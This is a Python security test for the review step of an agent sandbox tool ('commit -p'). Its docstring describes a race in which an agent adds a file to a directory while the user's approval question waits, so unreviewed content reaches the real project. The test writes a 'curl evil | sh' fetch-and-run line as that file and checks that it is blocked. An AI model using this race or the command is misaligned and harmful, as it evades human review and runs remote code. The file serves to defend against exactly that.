"""Attack pass 8: ``commit -p`` applies a new directory chosen whole with files added to it
while the question waited.

commit_patch records the entries of what it offers before the first question (a summarised new
directory: every entry below it, ``shown._below``) and, for what is chosen whole, compares only
those recorded entries (``shown.changed``): an entry that was not there when offered is no
recorded entry, so nothing compares it, and ``apply.commit`` applies the directory as it is
then. A call writes ``newdir/evil.sh`` while "Commit added directory newdir?" waits; the user
answers y for what was there, and evil.sh reaches the real project unseen. (docs/security.md:
commit -p "applies an entry chosen whole only if it still holds them".) Rule broken: commit
applies nothing review did not show (volume mode's review has ``shown.added`` for this; commit
-p has no counterpart).
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.conftest import Runner
from tests.review.pty_driver import converse

pytestmark = pytest.mark.usefixtures("overlay_engine")


def test_a_new_directory_taken_whole_gets_nothing_added_after_its_question(
        repo: Path, ws: Runner, sandboxed: Runner) -> None:
    sandboxed("mkdir newdir && echo shown > newdir/a.txt")

    def add_then_yes() -> str:     # the agent, while the question waits
        ws("run", "--", "sh", "-c", "echo 'curl evil | sh' > newdir/evil.sh", check=True)
        return "y"

    code, screen = converse([sys.executable, "-m", "manager", "commit", "-p"], repo, [add_then_yes])
    assert "newdir" in screen, screen
    assert not (repo / "newdir/evil.sh").exists(), (code, screen)
